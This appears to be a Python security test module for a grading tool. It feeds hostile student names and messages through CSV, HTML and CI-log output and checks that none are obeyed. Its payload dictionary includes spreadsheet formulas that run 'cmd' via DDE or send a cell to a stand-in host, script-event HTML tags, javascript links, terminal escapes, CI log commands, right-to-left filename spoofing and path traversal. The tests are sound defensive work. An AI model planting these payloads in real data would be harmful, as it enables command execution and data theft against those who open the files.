"""Names, notes and messages that a spreadsheet, a page, a terminal or a CI log would obey.

Each text stands at once in every place that others can write: id, names, e-mail, note, advice, check, message.
"""

from __future__ import annotations

import csv
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Final

from grader.protect.file_attacks.scene import ASSIGNMENT, FileAttack, Outcome, Scene, nothing, write
from grader.protect.toy_course import CONTROL_STUDENTS
from grader.records.course import Assignment, Task, Tell
from grader.records.grade import Grade, TaskGrade
from grader.records.judgement import CheckResult, Verdict
from grader.records.submission import Status, Student
from grader.report.html import paths
from grader.report.redact import redact
from grader.report.sanitize import log_line, markdown_text
from grader.report.tables import write_tables

FORMULA: Final = re.compile(r"(?:^|[;\t\n\v\f\r\x1c-\x1e\x85\u2028\u2029])[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
FIGURES: Final = frozenset({"raw_score", "late_submission_penalty", "score", "max_score", "duedate", "timestamp"})
LINK: Final = re.compile(r"(?<!\\)\]\(")  # of Markdown
TAG: Final = "x-mallory"
PLAIN: Final = "mallory"
NASTY: Final = {
    "formula": '=HYPERLINK("http://x/?"&A1)',
    "formula_of_a_plus": "+1+cmd|' /C calc'!A0",
    "formula_of_a_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_of_an_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_behind_a_semicolon": "x;=1+1",
    "formula_behind_a_tab": "x\t=1+1",
    "formula_behind_a_line": "x\n=1+1",
    "formula_behind_a_return": "x\r=1+1",
    "formula_behind_a_quote": 'x;"=1+1',
    "formula_full_width": "\uff1d1+1",
    "formula_behind_blanks": "  =1+1",
    "rows_of_their_own": 'x"\r\nann,halves,half,passed,1.00,1.00,,',
    "element": f"<{TAG} onload=1>",
    "element_in_an_attribute": f"\" onload=1><{TAG} a='",
    "element_that_closes": f"</pre></script></style></title><{TAG}>",
    "link_and_mention": "@everyone www.x.org [a](javascript:1)",
    "escape_sequences": "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "command_of_a_log": "::set-output name=x::1\n::stop-commands::",
    "command_in_a_line": "x ##vso[task.complete] ##[error]",
    "other_direction": "\u202egnp.exe\u2066",
    "way_upwards": "../../canary/untouched",
    "way_by_the_root": "/etc/x",
    "end_of_a_name": "a\0b",
    "half_a_character": "\ud800",
    "endless_name": "n" * 5000,
}


class Tags(HTMLParser):
    """Collects whatever a browser would take for an element or an event of mallory's."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        if tag == TAG or any(name.startswith("on") or (value or "").startswith("javascript:") for name, value in attrs):
            self.found.append(tag)


def read_tables(scene: Scene, attack: FileAttack) -> Outcome:
    """Write all that a run writes of a class in which one person's every text is nasty."""
    attack.put(scene)
    nasty = scene.root / "text"
    text = nasty.read_text(encoding="utf-8", errors="surrogatepass") if nasty.exists() else PLAIN
    assignment = Assignment(ASSIGNMENT, "Halves", (Task("half", 1.0, tell=Tell.ALL),))
    grades = [_grade(who, "right") for who in CONTROL_STUDENTS] + [_grade(text, text)]
    output = scene.root / "results"
    write_tables(output, grades)
    for grade in grades:
        paths.put(output, redact(grade, assignment), assignment, changed=True)
    faults = [*_in_tables(output), *_in_pages(output), *_in_lines(text)]
    texts = {
        who: (output / f"feedback/{who}/{ASSIGNMENT}.html").read_text(encoding="utf-8") for who in CONTROL_STUDENTS
    }
    return Outcome(texts, faults=tuple(dict.fromkeys(faults)))


def _grade(who: str, text: str) -> Grade:
    check = CheckResult("half", "test_half", title=text, verdict=Verdict.FAILED, message=text)
    task = TaskGrade("half", Verdict.FAILED, 0.0, 1.0, "H01", text, (check,))
    student = Student(who, text, text, text)
    grade = Grade(student, ASSIGNMENT, Status.GRADED, (task,), 0.0, 0.0, 0.0, 1.0, note=text)
    return replace(grade, remarks=(text,), answers=((text, text),), comments=(("", text),))


def _in_tables(output: Path) -> list[str]:
    faults = []
    for path in sorted(output.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        if len(rows) != len(CONTROL_STUDENTS) + 1:
            faults.append(f"{path.name} has {len(rows)} rows")
        cells = (cell for row in rows for name, cell in row.items() if name not in FIGURES)
        faults += [f"{path.name} holds a formula" for cell in cells if FORMULA.search(cell)]
    return faults


def _in_pages(output: Path) -> list[str]:
    faults = []
    pages = sorted((output / "feedback").rglob("*.html"))
    if len(pages) != len(CONTROL_STUDENTS) + 1:
        faults.append(f"{len(pages)} pages")
    for path in pages:
        tags = Tags()
        tags.feed(path.read_text(encoding="utf-8"))
        faults += [f"a page holds the element {tag}" for tag in tags.found]
    return faults


def _in_lines(text: str) -> list[str]:
    line, shown = log_line(text), markdown_text(text)
    faults = []
    if not line.isprintable() or line.lstrip().startswith("::") or "##vso[" in line or "##[" in line:
        faults.append("a line of a log obeys it")
    if f"<{TAG}" in shown or "@everyone" in shown or "www.x" in shown or LINK.search(shown):
        faults.append("Markdown obeys it")
    return faults


def put(text: str) -> FileAttack:
    """Return the attack by one text."""
    name = next(name for name, other in NASTY.items() if other == text)
    data = text.encode("utf-8", "surrogatepass")
    return FileAttack(f"text_{name}", "to be obeyed", lambda scene: write(scene.root / "text", data), read_tables)


ATTACKS: Final = tuple(map(put, NASTY.values()))
CONTROLS: Final = (FileAttack("harmless names", "", nothing, read_tables),)
